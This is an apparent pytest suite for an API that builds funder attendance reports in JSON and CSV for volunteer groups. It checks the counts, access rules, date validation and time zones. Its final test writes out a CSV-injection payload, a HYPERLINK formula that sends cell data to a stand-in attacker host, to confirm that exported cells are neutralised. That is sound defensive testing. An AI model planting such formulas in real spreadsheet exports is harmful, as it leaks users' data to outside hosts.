# SPDX-License-Identifier: Apache-2.0
"""Attendance reports for funders: numbers checked against hand-computed ones, in
JSON and CSV; aggregates only; coordinators only."""

import csv
import io
import json
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from helpers import (Resp, add_session, assert_error, cancel_session, in_days,
                     make_group, marked, move_session, org_with_people, raw_get, register,
                     report_path, signed_up)

HEL = ZoneInfo("Europe/Helsinki")
G1_TITLE = 'Vertaisryhmä "Toivo", Tampere'
G2_TITLE = "Perhekahvila Kaarina"
ALL_NUMBERS = ["sessions_held", "sessions_not_recorded", "days_held", "visits", "adult_visits",
               "child_visits", "walk_in_visits", "unique_participants", "first_time_participants",
               "volunteer_hours"]
CSV_HEADER = ["group_id", "title"] + ALL_NUMBERS
NUMBERS = ["sessions_held", "visits", "unique_participants", "first_time_participants", "volunteer_hours"]
BOM = "\ufeff"


def hel(month, day, hour=18):
    return datetime(2026, month, day, hour, 0, tzinfo=HEL)


@pytest.fixture(scope="module")
def rep(server, admin):
    """Two groups of one org with sessions held in September to November 2026.

    G1 (closed; p1..p4 enrolled), sessions at 18:00 Helsinki time:
      09-29  p1 present, p2 absent                 walk-ins 1  hours 2
      10-06  p1, p2 present, p3 absent             walk-ins 2  hours 2.5
      10-13  p1, p3 present, p2 excused            walk-ins 0  hours 1.5
      10-20  cancelled
      10-31  p4 present                            walk-ins 1  hours 1
      11-03  p1, p3 present                        walk-ins 5  hours 3
    G2 (open, no capacity; p5 signed up for 09-15 and 10-07, p1 for 10-07):
      09-15  p5 present                            walk-ins 4  hours 3
      10-07  p5, p1 present                        walk-ins 6  hours 2
      10-14  nobody signed up                      walk-ins 3  (no hours)
      10-21  cancelled
    """
    token = admin[1]
    r = org_with_people(server, token, coord="coordinator", leader="leader", member="member",
                        p1="member", p2="member", p3="member", p4="member", p5="member")
    b = org_with_people(server, token, coord_b="coordinator")
    r.coord_b, r.outsider = b.coord_b, register(server)
    ct = r.coord.token
    r.g1 = make_group(server, r.slug, ct, title=G1_TITLE, access="closed", capacity=None,
                      leaders=[r.leader.id])
    r.g2 = make_group(server, r.slug, ct, title=G2_TITLE, access="open", kind="family_cafe",
                      capacity=None, leaders=[r.leader.id])
    for p in (r.p1, r.p2, r.p3, r.p4):
        signed_up(server, "group", r.g1["id"], p.token, "confirmed")
    s = {d: add_session(server, r.g1["id"], ct, hel(*d)) for d in
         [(9, 29), (10, 6), (10, 13), (10, 20), (10, 31), (11, 3)]}
    # Open-group signups are made while the sessions are ahead; then they move back.
    t = {d: add_session(server, r.g2["id"], ct, in_days(30 + i)) for i, d in
         enumerate([(9, 15), (10, 7), (10, 14), (10, 21)])}
    for d, people in {(9, 15): [r.p5], (10, 7): [r.p5, r.p1]}.items():
        for p in people:
            signed_up(server, "session", t[d]["id"], p.token, "confirmed")
    for d, x in t.items():
        move_session(server, x["id"], ct, hel(*d))
    lt = r.leader.token
    marked(server, s[(9, 29)]["id"], lt, [(r.p1, "present"), (r.p2, "absent")], 1, volunteer_hours=2)
    marked(server, s[(10, 6)]["id"], lt, [(r.p1, "present"), (r.p2, "present"), (r.p3, "absent")], 2,
           volunteer_hours=2.5)
    marked(server, s[(10, 13)]["id"], lt, [(r.p1, "present"), (r.p3, "present"), (r.p2, "excused")], 0,
           volunteer_hours=1.5)
    marked(server, s[(10, 31)]["id"], lt, [(r.p4, "present")], 1, volunteer_hours=1)
    marked(server, s[(11, 3)]["id"], lt, [(r.p1, "present"), (r.p3, "present")], 5, volunteer_hours=3)
    marked(server, t[(9, 15)]["id"], lt, [(r.p5, "present")], 4, volunteer_hours=3)
    marked(server, t[(10, 7)]["id"], lt, [(r.p5, "present"), (r.p1, "present")], 6, volunteer_hours=2)
    marked(server, t[(10, 14)]["id"], lt, [], 3)
    cancel_session(server, s[(10, 20)]["id"], ct)
    cancel_session(server, t[(10, 21)]["id"], ct)
    r.people = [r.coord, r.leader, r.member, r.p1, r.p2, r.p3, r.p4, r.p5]
    return r


# (sessions_held, visits, unique_participants, first_time_participants, volunteer_hours)
WINDOWS = {
    # p1 was first present on 09-29 (G1) but first in G2 on 10-07; p5 first on 09-15.
    "october": ("2026-10-01", "2026-10-31", {"g1": (3, 8, 4, 3, 5.0), "g2": (2, 11, 2, 1, 2.0),
                                             "total": (5, 19, 5, 3, 7.0)}),
    # `to` is inclusive: the last day counts, the day after does not.
    "october-but-the-31st": ("2026-10-01", "2026-10-30", {"g1": (2, 6, 3, 2, 4.0), "g2": (2, 11, 2, 1, 2.0),
                                                          "total": (4, 17, 4, 2, 6.0)}),
    "september": ("2026-09-01", "2026-09-30", {"g1": (1, 2, 1, 1, 2.0), "g2": (1, 5, 1, 1, 3.0),
                                               "total": (2, 7, 2, 2, 5.0)}),
    "one-day": ("2026-10-13", "2026-10-13", {"g1": (1, 2, 2, 1, 1.5), "g2": (0, 0, 0, 0, 0.0),
                                             "total": (1, 2, 2, 1, 1.5)}),
}


def numbers(row):
    """The five numbers of a report row (JSON or CSV), hours as a float."""
    vals = [row[k] for k in NUMBERS]
    for v in vals[:4]:
        assert str(v).isdigit(), f"not a count: {v!r} in {row}"
    return tuple(int(v) for v in vals[:4]) + (round(float(vals[4]), 6),)


def assert_no_personal_data(raw, r):
    assert b"@" not in raw, raw[:500]
    for p in r.people:
        assert p.id.encode() not in raw, f"a person id in the report: {raw[:500]!r}"
        assert p.display_name.encode() not in raw, f"a name in the report: {raw[:500]!r}"


def get_json_report(server, r, frm, to, token):
    resp = raw_get(server, report_path(r.slug, frm, to), token=token)
    assert resp.status == 200, (resp.status, resp.body[:300])
    assert resp.headers.get("content-type", "").split(";")[0].strip() == "application/json"
    assert_no_personal_data(resp.body, r)
    return json.loads(resp.body)


def rows_by_group(report, r):
    want = {r.g1["id"]: "g1", r.g2["id"]: "g2"}
    out = {}
    for row in report["groups"]:
        assert row["group_id"] in want, f"a group of another org or unknown: {row}"
        out[want[row["group_id"]]] = row
    return out


@pytest.mark.parametrize("window", list(WINDOWS))
def test_report_json_numbers(server, rep, window):
    frm, to, want = WINDOWS[window]
    report = get_json_report(server, rep, frm, to, rep.coord.token)
    assert set(report) >= {"org", "from", "to", "groups", "total"}, report
    org = report["org"]
    assert org == rep.slug or (isinstance(org, dict) and org.get("slug") == rep.slug), org
    rows = rows_by_group(report, rep)
    got = {k: numbers(v) for k, v in rows.items()}
    got["total"] = numbers(report["total"])
    assert got == want
    # One row per group of the org, whether or not it met in the period; oldest first.
    assert [row["group_id"] for row in report["groups"]] == [rep.g1["id"], rep.g2["id"]]
    assert (rows["g1"]["title"], rows["g2"]["title"]) == (G1_TITLE, G2_TITLE)


def test_report_states_its_period_as_asked(server, rep):
    """The period is given back as the dates asked for (`to` inclusive), not as times."""
    report = get_json_report(server, rep, "2026-10-01", "2026-10-31", rep.coord.token)
    assert (report["from"], report["to"]) == ("2026-10-01", "2026-10-31")


@pytest.mark.parametrize("window", ["october", "october-but-the-31st"])
def test_report_csv(server, rep, window):
    frm, to, want = WINDOWS[window]
    resp = raw_get(server, report_path(rep.slug, frm, to), token=rep.coord.token,
                   headers={"Accept": "text/csv"}, record=False)
    assert resp.status == 200, (resp.status, resp.body[:300])
    ct = resp.headers.get("content-type", "").lower().replace(" ", "")
    assert ct == "text/csv;charset=utf-8", ct
    assert_no_personal_data(resp.body, rep)
    text = resp.body.decode("utf-8")
    assert text.startswith(BOM), "a spreadsheet reads UTF-8 only after a byte order mark"
    text = text[1:]
    assert text.endswith("\r\n") and text.count("\r\n") == text.count("\n"), "lines must end in CRLF"
    # The title with a comma and quotes is quoted as RFC 4180 says.
    assert '"Vertaisryhmä ""Toivo"", Tampere"' in text, text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == CSV_HEADER
    assert all(len(row) == len(CSV_HEADER) for row in rows), rows
    body, total = rows[1:-1], rows[-1]
    assert total[0] == "" and total[1] == "total", total
    ids = {rep.g1["id"]: ("g1", G1_TITLE), rep.g2["id"]: ("g2", G2_TITLE)}
    got = {}
    for row in body:
        d = dict(zip(CSV_HEADER, row))
        assert d["group_id"] in ids, row
        key, title = ids[d["group_id"]]
        assert d["title"] == title
        got[key] = numbers(d)
    got["total"] = numbers(dict(zip(CSV_HEADER, total)))
    assert got == want
    # The same numbers as the JSON report.
    report = get_json_report(server, rep, frm, to, rep.coord.token)
    assert numbers(report["total"]) == got["total"]


def test_only_sessions_that_have_started_are_held(server, rep):
    add_session(server, rep.g1["id"], rep.coord.token, in_days(2))
    add_session(server, rep.g2["id"], rep.coord.token, in_days(3))
    to = (datetime.now(HEL).date() + timedelta(days=7)).isoformat()
    report = get_json_report(server, rep, "2026-10-01", to, rep.coord.token)
    rows = rows_by_group(report, rep)
    # G1: 10-06, 10-13, 10-31 and 11-03 (not 10-20, cancelled; not the one ahead).
    assert numbers(rows["g1"]) == (4, 15, 4, 3, 8.0)
    assert numbers(rows["g2"]) == (2, 11, 2, 1, 2.0)
    assert numbers(report["total"]) == (6, 26, 5, 3, 10.0)


def test_admin_gets_the_same_report(server, rep):
    frm, to, _ = WINDOWS["october"]
    assert get_json_report(server, rep, frm, to, rep.admin_token) == \
        get_json_report(server, rep, frm, to, rep.coord.token)


@pytest.mark.parametrize("who", ["leader", "member", "p1", "coord_b", "outsider"])
def test_report_forbidden_for_others(server, rep, who):
    for accept in (None, "text/csv"):
        resp = raw_get(server, report_path(rep.slug, "2026-10-01", "2026-10-31"),
                       token=getattr(rep, who).token, headers={"Accept": accept} if accept else None,
                       record=accept is None)
        assert resp.status == 403, (resp.status, resp.body[:300])
        assert b"sessions_held" not in resp.body
        assert_error(Resp(resp.status, resp.headers, json.loads(resp.body)), 403, "forbidden")


def test_report_needs_a_token(server, rep):
    assert_error(server.api("GET", report_path(rep.slug, "2026-10-01", "2026-10-31")), 401,
                 "unauthorized")


def test_report_unknown_org_404(server, rep):
    assert_error(server.api("GET", report_path("ei-ole-olemassa-xyz", "2026-10-01", "2026-10-31"),
                            token=rep.admin_token), 404, "not_found")


@pytest.mark.parametrize("frm,to,fields", [
    ("2026-13-01", "2026-10-31", ("from",)),
    ("lokakuu", "2026-10-31", ("from",)),
    ("2026-10-01", "2026-02-30", ("to",)),
    ("2026-10-01", "31.10.2026", ("to",)),
    ("2026-10-31", "2026-10-01", ("from", "to")),
])
def test_report_bad_dates_422(server, rep, frm, to, fields):
    r = server.api("GET", report_path(rep.slug, frm, to), token=rep.coord.token)
    assert r.status == 422, (r.status, r.body)
    err = assert_error(r, 422, "invalid")
    assert err.get("field") in fields, err


def csv_report(server, slug, frm, to, token):
    resp = raw_get(server, report_path(slug, frm, to), token=token, headers={"Accept": "text/csv"},
                   record=False)
    assert resp.status == 200, (resp.status, resp.body[:300])
    rows = list(csv.reader(io.StringIO(resp.body.decode("utf-8-sig"), newline="")))
    assert rows[0] == CSV_HEADER
    return rows


def test_csv_hours_are_exact(server, admin):
    """A big org's year passes 10,000 volunteer hours; the CSV keeps every quarter hour."""
    r = org_with_people(server, admin[1], coord="coordinator", leader="leader")
    r.people = [r.coord, r.leader]
    g = make_group(server, r.slug, r.coord.token, access="closed", capacity=None, leaders=[r.leader.id])
    for day, hours in ((6, 5000.25), (13, 5000.5)):
        s = add_session(server, g["id"], r.coord.token, hel(10, day))
        marked(server, s["id"], r.leader.token, [], 1, volunteer_hours=hours)
    report = get_json_report(server, r, "2026-10-01", "2026-10-31", r.coord.token)
    assert [numbers(x) for x in report["groups"]] == [(2, 2, 0, 0, 10000.75)]
    assert numbers(report["total"]) == (2, 2, 0, 0, 10000.75)
    rows = csv_report(server, r.slug, "2026-10-01", "2026-10-31", r.coord.token)
    assert rows[1][0] == g["id"] and rows[-1][:2] == ["", "total"], rows
    hours = CSV_HEADER.index("volunteer_hours")
    assert float(rows[1][hours]) == 10000.75, f"the group's volunteer_hours in CSV: {rows[1][hours]!r}"
    assert float(rows[-1][hours]) == 10000.75, f"the total volunteer_hours in CSV: {rows[-1][hours]!r}"


def test_report_days_are_the_orgs_days(server, admin):
    """Dates are days in the organization's time zone: for an org in Stockholm, a
    session at 23:30 on 30 September (00:30 on 1 October in Helsinki) is September's,
    and one at 23:30 on 31 October (00:30 on 1 November in Helsinki) is October's."""
    sthlm = ZoneInfo("Europe/Stockholm")
    r = org_with_people(server, admin[1], org_fields={"timezone": "Europe/Stockholm"},
                        coord="coordinator", leader="leader", p1="member")
    assert r.org["timezone"] == "Europe/Stockholm"
    g = make_group(server, r.slug, r.coord.token, access="closed", capacity=None, leaders=[r.leader.id])
    signed_up(server, "group", g["id"], r.p1.token, "confirmed")
    late_sep = datetime(2026, 9, 30, 23, 30, tzinfo=sthlm)
    late_oct = datetime(2026, 10, 31, 23, 30, tzinfo=sthlm)
    for when, walk_ins in ((late_sep, 1), (late_oct, 2)):
        s = add_session(server, g["id"], r.coord.token, when, hours=1)
        marked(server, s["id"], r.leader.token, [(r.p1, "present")], walk_ins, volunteer_hours=1)
    r.people = [r.coord, r.leader, r.p1]
    october = get_json_report(server, r, "2026-10-01", "2026-10-31", r.coord.token)
    assert numbers(october["total"]) == (1, 3, 1, 0, 1.0)
    september = get_json_report(server, r, "2026-09-01", "2026-09-30", r.coord.token)
    assert numbers(september["total"]) == (1, 2, 1, 1, 1.0)


def test_csv_cells_are_never_formulas(server, admin):
    """A title a spreadsheet would run as a formula (=, +, - or @ first: OWASP's CSV
    injection) arrives as text: a single quote in front, the cell quoted. The JSON
    report keeps the title as it is."""
    r = org_with_people(server, admin[1], coord="coordinator", leader="leader")
    r.people = [r.coord, r.leader]
    titles = ['=HYPERLINK("http://evil.example/?"&A1,"Avaa")', "+358 40 1234567", "-2+3",
              "@SUM(A1:A9)", "Perhekahvila - Tampere"]
    by_id = {}
    for day, title in enumerate(titles, start=5):
        g = make_group(server, r.slug, r.coord.token, title=title, access="closed", capacity=None,
                       leaders=[r.leader.id])
        s = add_session(server, g["id"], r.coord.token, hel(10, day))
        marked(server, s["id"], r.leader.token, [], 1)
        by_id[g["id"]] = title
    resp = raw_get(server, report_path(r.slug, "2026-10-01", "2026-10-31"), token=r.coord.token,
                   headers={"Accept": "text/csv"}, record=False)
    assert resp.status == 200, (resp.status, resp.body[:300])
    text = resp.body.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    got = {row[0]: row[1] for row in rows[1:-1]}
    want = {gid: ("'" + t if t[0] in "=+-@" else t) for gid, t in by_id.items()}
    assert got == want, got
    assert "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Avaa\"\")\"" in text, text
    assert "\"'+358 40 1234567\"" in text and "\"'-2+3\"" in text and "\"'@SUM(A1:A9)\"" in text, text
    assert "\r\n,total," in text, text
    # (Not get_json_report: its check for emails would trip over "@SUM".)
    resp = raw_get(server, report_path(r.slug, "2026-10-01", "2026-10-31"), token=r.coord.token)
    assert resp.status == 200, (resp.status, resp.body[:300])
    assert sorted(g["title"] for g in json.loads(resp.body)["groups"]) == sorted(titles)
